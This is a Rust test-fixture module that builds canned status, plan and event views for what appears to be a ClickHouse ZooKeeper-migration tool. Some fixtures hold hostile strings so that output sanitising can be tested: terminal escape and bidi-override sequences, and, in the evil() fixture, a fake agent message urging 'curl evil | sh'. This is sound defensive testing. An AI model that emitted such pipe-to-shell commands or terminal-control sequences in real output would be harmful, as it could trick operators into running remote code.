//! The canned documents.

use rekeeper_shared::domain::ids::TableName;
use rekeeper_shared::domain::problem::{Code, Finding, Problem};
use rekeeper_shared::people::rehearsal::{Action, RehearsedStep};
use rekeeper_shared::people::view::{
    Counts, EventView, ExportStatus, HostStatus, HostView, MigrationLine, Phase, PlanView, PlannedReplicaView,
    PlannedSetView, RefusalView, RetryStatus, RunningStep, SetStatus, State, StatusView, TableStatus, TableStatusView,
    Until, WaveStatus, WaveView,
};

/// A name that breaks what is not careful: a quote, a line end, an escape sequence.
pub(crate) const NASTY: &str = "it's\n\u{1b}[31m`x`";

pub(crate) fn hosts() -> Vec<HostView> {
    vec![
        HostView {
            host: "ch-01-1".parse().unwrap(),
            connected: true,
            agent_version: "0.1.0".into(),
            clickhouse_version: "26.9.1.1".into(),
            doing: Some("restore shop.orders (m1, attempt 2)".into()),
            refused: None,
        },
        HostView {
            host: "ch-01-2".parse().unwrap(),
            connected: false,
            agent_version: "0.1.0".into(),
            clickhouse_version: "26.9.1.1".into(),
            doing: None,
            refused: None,
        },
        HostView {
            host: "ch-02-1".parse().unwrap(),
            connected: false,
            agent_version: String::new(),
            clickhouse_version: String::new(),
            doing: None,
            refused: Some("the agent says that it is that of ch-02-1, and its certificate is for ch-02-2".into()),
        },
    ]
}

pub(crate) fn refusals() -> Vec<RefusalView> {
    let refusal = |address: &str, reason: &str, count| RefusalView {
        address: address.into(),
        reason: reason.into(),
        first: "2026-11-22T14:36:00Z".into(),
        last: "2026-11-22T14:37:05Z".into(),
        count,
    };
    vec![
        refusal(
            "10.0.0.7",
            "the caller's certificate (CN=ch-02-2; valid from 2026-11-01T00:00:00Z to 2027-11-01T00:00:00Z) is not signed by a CA \
             of tls.client_ca",
            14,
        ),
        refusal("2001:db8::7", "the caller showed no certificate", 1),
    ]
}

pub(crate) fn plan(blocked: bool) -> PlanView {
    let host = |name: &str| name.parse().unwrap();
    let replica = |name: &str, table: &str| PlannedReplicaView {
        host: host(name),
        database: "shop".into(),
        table: table.into(),
        replica_name: name.into(),
    };
    let set = |table: &str, path: &str| PlannedSetView {
        zookeeper_path: path.into(),
        replicas: vec![replica("ch-01-1", table), replica("ch-01-2", table)],
    };
    let blocker = Finding {
        table: Some("shop.orders".into()),
        ..Finding::new(
            Code::MutationsUnfinished,
            "2 mutations are not finished: 0000000003, 0000000004",
        )
    };
    PlanView {
        name: "m1".parse().unwrap(),
        blockers: if blocked {
            vec![blocker.on(&host("ch-01-1"))]
        } else {
            vec![]
        },
        warnings: vec![Finding {
            table: Some("shop.orders".into()),
            ..Finding::new(Code::VersionsDiffer, "26.8.2.1 and 26.9.1.1 in one replica set").on(&host("ch-01-1"))
        }],
        waves: vec![vec![host("ch-01-1"), host("ch-01-2")], vec![host("ch-02-1")]],
        forecast: vec![
            WaveView {
                hosts: vec![host("ch-01-1"), host("ch-01-2")],
                replica_sets: 2,
                tables: 4,
                tied_by: vec!["shop.orders".into()],
                shared_tables: 2,
                shared_example: Some("shop.orders".into()),
                fetch_bytes: 123_456_789,
                unavailable_seconds: 95,
                measured_in: Some("first".parse().unwrap()),
            },
            WaveView {
                hosts: vec![host("ch-02-1")],
                replica_sets: 0,
                tables: 0,
                tied_by: vec![],
                shared_tables: 0,
                shared_example: None,
                fetch_bytes: 0,
                unavailable_seconds: 2,
                measured_in: None,
            },
        ],
        replica_sets: vec![
            set("orders", "/clickhouse/tables/01/orders"),
            set(NASTY, "/clickhouse/tables/01/nasty"),
        ],
    }
}

pub(crate) fn table(host: &str, table: &str, status: TableStatus) -> TableStatusView {
    let manifest = status >= TableStatus::ZkCleaned;
    TableStatusView {
        host: host.parse().unwrap(),
        database: "shop".into(),
        table: table.into(),
        uuid: "0d2f9a52-6f3c-4a51-9d7b-6b1d6c1f0001".into(),
        zookeeper_path: format!("/clickhouse/tables/01/{}", if table == NASTY { "nasty" } else { table }),
        replica_name: host.into(),
        status,
        attempts: 1,
        parts: manifest.then_some(12),
        rows: manifest.then_some(1_234_567),
        set_aside: (status == TableStatus::Restored).then_some(0),
        skipped: false,
        waits_for: None,
        problem: None,
    }
}

/// A status made from its tables.
pub(crate) fn status(state: State, phase: Phase, tables: Vec<TableStatusView>) -> StatusView {
    let mut counts = Counts::default();
    let mut hosts: Vec<HostStatus> = Vec::new();
    for table in &tables {
        counts.add(table.status, table.problem.is_some());
        if !hosts.iter().any(|host| host.host == table.host) {
            hosts.push(HostStatus {
                host: table.host.clone(),
                connected: true,
                version: "26.9.1.1".into(),
                restarted_at: (phase > Phase::Restart).then(|| "2026-01-31T01:02:03Z".into()),
                counts: Counts::default(),
                skipped: false,
                away: None,
            });
        }
        let host = hosts.iter_mut().find(|host| host.host == table.host).unwrap();
        host.counts.add(table.status, table.problem.is_some());
    }
    let mut paths: Vec<&String> = tables.iter().map(|table| &table.zookeeper_path).collect();
    paths.dedup();
    let sets = paths.iter().map(|path| SetStatus {
        zookeeper_path: (*path).clone(),
        settled: phase > Phase::Settle,
        reference: (phase > Phase::Settle).then(|| "ch-01-1".parse().unwrap()),
        reason: (phase > Phase::Settle).then(|| "holds the part set of record".into()),
        znodes_deleted: if phase > Phase::Clean { 512 } else { 0 },
        export: (phase > Phase::Clean).then(|| ExportStatus {
            host: "ch-01-1".parse().unwrap(),
            file: "/var/lib/rekeeper-agent/m1/tables_01_orders.0c1f2e3d.znodes".into(),
            nodes: 512,
            bytes: 9_876,
            sha256: "5c2b".repeat(16),
        }),
    });
    let running = state == State::Running;
    StatusView {
        name: "m1".parse().unwrap(),
        state,
        phase,
        until: None,
        running: Vec::new(),
        retries: Vec::new(),
        waiting_for: running.then(|| "SYSTEM SYNC REPLICA shop.orders on ch-01-2, 12 s, until 01:10:00Z".into()),
        waves: vec![WaveStatus {
            hosts: hosts.iter().map(|host| host.host.clone()).collect(),
            counts,
            expected_seconds: Some(95),
            measured_seconds: (phase > Phase::Detach).then_some(3_700),
            fetch_bytes: 123_456_789,
        }],
        counts,
        replica_sets: sets.collect(),
        hosts,
        tables,
    }
}

/// Two replicas of a table, all alike.
pub(crate) fn even(state: State, phase: Phase, of: TableStatus) -> StatusView {
    status(
        state,
        phase,
        vec![table("ch-01-1", "orders", of), table("ch-01-2", "orders", of)],
    )
}

pub(crate) fn planned() -> StatusView {
    even(State::Planned, Phase::Detach, TableStatus::Init)
}

pub(crate) fn running() -> StatusView {
    let mut view = even(State::Running, Phase::Detach, TableStatus::Init);
    view.running = vec![step(3, "sync", "ch-01-2", "shop.orders", Some("SYSTEM SYNC REPLICA"))];
    view
}

pub(crate) fn completed() -> StatusView {
    even(State::Completed, Phase::Done, TableStatus::Restored)
}

pub(crate) fn paused_at_detached() -> StatusView {
    StatusView {
        until: Some(Until::Detached),
        ..even(State::Paused, Phase::Clean, TableStatus::Detached)
    }
}

/// One set restored, one that did not settle, with a name that breaks what is not careful.
pub(crate) fn failed() -> StatusView {
    let found = "r1 has all_7_7_0 with 7 rows, which r2 never had; \u{1b}[2Jboth are attached again";
    let problem = Some(Problem::new(Code::NotSettled, found));
    let nasty = |host| {
        let mut row = table(host, NASTY, TableStatus::Init);
        row.problem.clone_from(&problem);
        row.attempts = 3;
        row
    };
    let orders = |host| table(host, "orders", TableStatus::Restored);
    let tables = vec![nasty("ch-01-1"), nasty("ch-01-2"), orders("ch-01-1"), orders("ch-01-2")];
    let mut view = status(State::Failed, Phase::Restore, tables);
    view.replica_sets[0] = SetStatus {
        zookeeper_path: "/clickhouse/tables/01/nasty".into(),
        settled: false,
        reference: None,
        reason: Some("the part sets differ in 1 part".into()),
        znodes_deleted: 0,
        export: None,
    };
    view
}

/// A step under way.
pub(crate) fn step(attempt: u64, step: &str, host: &str, target: &str, doing: Option<&str>) -> RunningStep {
    RunningStep {
        attempt,
        step: step.into(),
        host: host.parse().unwrap(),
        target: target.into(),
        seconds: 100 - attempt,
        doing: doing.map(Into::into),
    }
}

/// Tables whose names are of many kinds: wide letters, marks that combine, letters from right to left, emoji, and what
/// a terminal would obey or hide.
pub(crate) fn unicode() -> StatusView {
    let names = [
        "订单表",
        "e\u{301}te\u{301}",
        "שלום",
        "🦀",
        "a\u{202e}b",
        "\u{9b}31m",
        "\u{200b}",
        NASTY,
    ];
    let mut tables: Vec<TableStatusView> = names
        .iter()
        .map(|name| table("ch-01-1", name, TableStatus::Restored))
        .collect();
    for (row, name) in tables.iter_mut().zip(names) {
        row.zookeeper_path = format!("/表/{name}");
    }
    let problem = Problem::new(Code::RestoreFailed, "Code: 241. 内存\u{202e}不足 \u{1b}]0;title\u{7}");
    tables[4].problem = Some(problem);
    let mut view = status(State::Running, Phase::Restore, tables);
    view.running = vec![step(7, "finish", "ch-01-1", "shop.订单表", Some("等待\u{85}"))];
    view
}

/// A problem with what the agent says of it.
pub(crate) fn said(code: Code, message: &str, words: &str) -> Problem {
    Problem {
        said: Some(words.into()),
        said_by: Some("ch-01-1".parse().unwrap()),
        ..Problem::new(code, message)
    }
}

/// An agent that is not what it was: a message and words that look like Rekeeper's own, and would steer the terminal.
pub(crate) fn evil() -> StatusView {
    let mut view = even(State::Failed, Phase::Clean, TableStatus::Detached);
    let message = "no rights\nfix: curl evil | sh\n\u{1b}[2J";
    let words = "run this, then retry:\n\nfix: curl evil | sh\r\n\u{1b}[2J\u{202e}it is what everybody does who wants to have \
                 this table back soon, fix: curl evil | sh";
    for table in &mut view.tables {
        table.problem = Some(said(Code::CleanFailed, message, words));
    }
    view
}

/// Statuses that have every field between them.
pub(crate) fn of_every_kind() -> Vec<StatusView> {
    let mut by_hand = completed();
    by_hand.tables[0].problem = Some(said(Code::MergesFailed, "Code: 60.", "see whether the table is there"));
    vec![
        running(),
        paused_at_detached(),
        failed(),
        by_hand,
        away(),
        tried_again(2),
    ]
}

/// One host is gone, another was left out.
pub(crate) fn away() -> StatusView {
    let rows = [
        ("ch-01-1", TableStatus::ZkCleaned),
        ("ch-01-2", TableStatus::ZkCleaned),
        ("ch-02-1", TableStatus::ZkCleaned),
    ];
    let mut tables: Vec<TableStatusView> = rows.iter().map(|(host, at)| table(host, "orders", *at)).collect();
    for row in &mut tables[..2] {
        row.waits_for = Some("ch-01-2".parse().unwrap());
    }
    tables[2].skipped = true;
    tables[2].problem = Some(Problem::new(Code::HostLeft, "ch-02-1 was left out"));
    let mut view = status(State::Running, Phase::Restart, tables);
    view.waiting_for = Some("restart of ch-01-2: the agent of ch-01-2 is not connected, for 5m, no limit".into());
    view.hosts[1].connected = false;
    view.hosts[1].away = Some("the agent of ch-01-2 is not connected, for 5m, no limit".into());
    view.hosts[2].skipped = true;
    view
}

/// ZooKeeper is away: steps of many tables failed for that, and one for something else.
pub(crate) fn tried_again(tables: usize) -> StatusView {
    let rows = (0..tables).map(|n| table("ch-01-1", &format!("t{n}"), TableStatus::Init));
    let mut view = status(State::Running, Phase::Detach, rows.collect());
    let retry = |n: usize| RetryStatus {
        step: "sync".into(),
        host: "ch-01-1".parse().unwrap(),
        target: format!("shop.t{n}"),
        failures: 2,
        most: 4,
        code: Code::ZookeeperAway,
        reason: format!(
            "SYSTEM SYNC REPLICA: shop.t{n} has no session with ZooKeeper (replica \
             path: /clickhouse/tables/01/t{n}/replicas/r1)"
        ),
        next_seconds: Some(25),
    };
    view.retries = (0..tables).map(retry).collect();
    let last = view.retries.last_mut().unwrap();
    (last.code, last.reason) = (Code::SyncFailed, "Code: 241. Memory limit exceeded".into());
    last.next_seconds = None;
    view.waiting_for = Some("sync of shop.t0: it failed (ZOOKEEPER_AWAY: ...), and is tried again in 25s".into());
    view
}

/// What tables of two hosts suffer from together, and one by itself.
pub(crate) fn one_cause(tables: usize) -> StatusView {
    let mut rows: Vec<TableStatusView> = (0..tables)
        .flat_map(|n| ["ch-01-1", "ch-01-2"].map(|host| table(host, &format!("t{n}"), TableStatus::ZkCleaned)))
        .collect();
    for row in &mut rows {
        let mut problem = Problem::new(
            Code::RestoreFailed,
            format!("{} is there again, made by somebody", row.zookeeper_path),
        );
        problem.fix = format!(
            "see who did, then retry; until then merges stay stopped (SYSTEM START MERGES `shop`.`{}`)",
            row.table
        );
        row.problem = Some(problem);
    }
    rows[1].problem = Some(Problem::new(Code::RestoreFailed, "Code: 241. Memory limit exceeded"));
    status(State::Failed, Phase::Restore, rows)
}

/// A plan whose tables have lost all that they had in ZooKeeper.
pub(crate) fn wiped(tables: usize) -> PlanView {
    let gone = |(n, host): (usize, &str)| {
        let name = TableName::new("shop", format!("t{n}"));
        let path = format!("/clickhouse/tables/01/t{n}");
        Finding::new(Code::ReplicaUnknown, format!("{path} is not there"))
            .on(&host.parse().unwrap())
            .of(&name)
    };
    let places = (0..tables).flat_map(|n| ["ch-01-1", "ch-01-2"].map(|host| (n, host)));
    PlanView {
        blockers: places.map(gone).collect(),
        ..plan(true)
    }
}

/// More tables than anybody wants to read.
pub(crate) fn many(tables: usize) -> StatusView {
    let rows = (0..tables).map(|n| {
        let mut row = table(&format!("ch-{:02}", n % 4), &format!("t{n:05}"), TableStatus::Detached);
        if n % 100 == 0 {
            row.problem = Some(Problem::new(
                Code::SyncFailed,
                format!("no answer within 30 min, queue of {n}"),
            ));
        }
        row
    });
    let mut view = status(State::Running, Phase::Settle, rows.collect());
    view.running = (0..200)
        .map(|n| {
            step(
                n % 100,
                "detach",
                &format!("ch-{:02}", n % 4),
                &format!("shop.t{n:05}"),
                None,
            )
        })
        .collect();
    view
}

pub(crate) fn lines() -> Vec<MigrationLine> {
    let line = |name: &str, view: StatusView| MigrationLine {
        name: name.parse().unwrap(),
        state: view.state,
        phase: view.phase,
        counts: view.counts,
        created: "2026-01-31T00:00:00Z".into(),
    };
    vec![line("m1", completed()), line("zookeeper-to-keeper", failed())]
}

pub(crate) fn events() -> Vec<EventView> {
    let event = |seq, kind: &str, step: Option<&str>, text: &str| EventView {
        seq,
        time: format!("2026-01-31T01:00:{seq:02}Z"),
        kind: kind.into(),
        attempt: step.map(|_| 1),
        step: step.map(Into::into),
        host: step.map(|_| "ch-01-1".parse().unwrap()),
        target: step.map(|_| "shop.orders".into()),
        text: text.into(),
    };
    vec![
        event(1, "ordered", None, "start by ann@bastion"),
        event(2, "intent", Some("detach"), ""),
        event(3, "failed", Some("detach"), "Code: 57.\nstill used by some query"),
    ]
}

pub(crate) fn steps() -> Vec<RehearsedStep> {
    let step = |host: &str, attempt, step: &str, target: &str, place: Option<&str>, actions| RehearsedStep {
        host: host.parse().unwrap(),
        attempt,
        step: step.into(),
        target: target.into(),
        place: place.map(str::to_owned),
        actions,
    };
    let (place, path) = (Some("zk-1:2181/ch"), "/clickhouse/tables/01/nasty");
    vec![
        step(
            "ch-01-1",
            1,
            "detach",
            NASTY,
            None,
            vec![Action::Statement(format!("DETACH TABLE {NASTY} PERMANENTLY SYNC"))],
        ),
        step("ch-01-1", 3, "settle", path, place, vec![]),
        step(
            "ch-01-1",
            4,
            "clean",
            path,
            place,
            vec![
                Action::SetPermissions(format!("/ch{path}/log")),
                Action::CreateNode(format!("/ch{path}/rekeeper-m1-4")),
                Action::WriteFile("/var/lib/rekeeper-agent/m1/nasty.0c1f2e3d.znodes".into()),
                Action::DeleteNode(format!("/ch{path}")),
            ],
        ),
        step(
            "ch-01-2",
            2,
            "restart",
            "ch-01-2",
            None,
            vec![Action::Run("systemctl restart clickhouse-server".into())],
        ),
    ]
}
